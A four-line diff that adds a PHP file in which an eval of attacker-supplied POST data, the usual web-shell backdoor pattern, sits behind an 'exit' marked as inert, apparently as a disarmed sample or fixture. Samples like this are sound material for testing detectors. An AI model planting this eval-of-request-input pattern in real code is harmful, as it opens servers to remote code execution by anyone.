@@ -1,0 +1,4 @@
+<?php exit; /* inert */ $x=<<<A
+{$_POST["a"]}
+A;
+eval($x);
